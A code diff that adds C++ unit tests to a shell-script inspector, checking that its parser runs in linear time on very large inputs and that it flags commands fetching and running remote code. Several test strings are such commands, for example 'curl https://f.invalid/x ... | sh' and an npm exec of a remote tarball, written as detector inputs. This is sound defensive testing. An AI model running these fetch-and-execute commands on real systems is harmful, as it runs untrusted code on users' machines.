@@ -65,5 +65,39 @@ TEST(ShellFlows, ShellsOfWindowsHaveNoHereDocuments) {
   EXPECT_FALSE(runs_fetched("@echo off\r\nrem <<EOF\r\ncurl -o a.zip http://f.invalid/x\r\nb.exe\r\nEOF\r\n"));
 }
 
+std::string many(std::string_view piece, std::size_t count) {
+  std::string out;
+  while (count-- > 0) out.append(piece);
+  return out;
+}
+
+TEST(ShellFlows, WhatManyCommandsReadIsKeptOnce) {
+  const std::string said = "cat <<END | {\n" + many("y", 200'000) + "\nEND\n";
+  for (const char* reader : {"node\n", "python3\n"}) {
+    const ShellReading reading = read_shell(said + many(reader, 4'000) + "}\n", kScriptLimits);
+    EXPECT_FALSE(reading.is_complete);
+    EXPECT_LE(reading.code.size() + reading.unread.size(), 16u);
+  }
+  EXPECT_TRUE(read_shell(said + many("a\n", 10'000) + "}\n", kScriptLimits).is_complete);
+  const ShellReading started =
+      read_shell("echo " + many("x", 60'000) + " > f.js\n" + many("node f.js\n", 20'000), kScriptLimits);
+  EXPECT_FALSE(started.is_complete);
+  EXPECT_LE(started.code.size(), 64u);
+  EXPECT_EQ(read_shell("echo 'f()' > f.js\nnode f.js\nnode f.js\n").code.size(), 2u);
+}
+
+// Each took minutes where a word or a group is gone over for every command.
+TEST(ShellFlows, LongWordsAndDeepGroupsAreReadInLinearTime) {
+  EXPECT_FALSE(read_shell("npm " + many("-x i ", 400'000), kScriptLimits).is_complete);
+  EXPECT_FALSE(read_shell("npm " + many("-x exec ", 250'000), kScriptLimits).is_complete);
+  EXPECT_FALSE(read_shell("a " + many("<<a ", 75'000) + many("$(x) ", 60'000), kScriptLimits).is_complete);
+  EXPECT_TRUE(read_shell(many("(", 20'000) + many("a;", 65'000) + many(")|b", 20'000), kScriptLimits).is_complete);
+  read_shell("powershell@" + many("y", 700'000) + " " + many("(", 1'300'000), kScriptLimits);
+  read_shell("echo " + many("${a", 650'000), kScriptLimits);
+  EXPECT_TRUE(runs_fetched(many("(", 100) + "curl https://f.invalid/x;" + many(")", 100) + " | sh"));
+  EXPECT_TRUE(runs_fetched("npm -x i -x exec https://f.invalid/x.tgz"));
+  EXPECT_FALSE(runs_fetched("npm -x i -x exec x"));
+}
+
 }  // namespace
 }  // namespace cordon::inspect
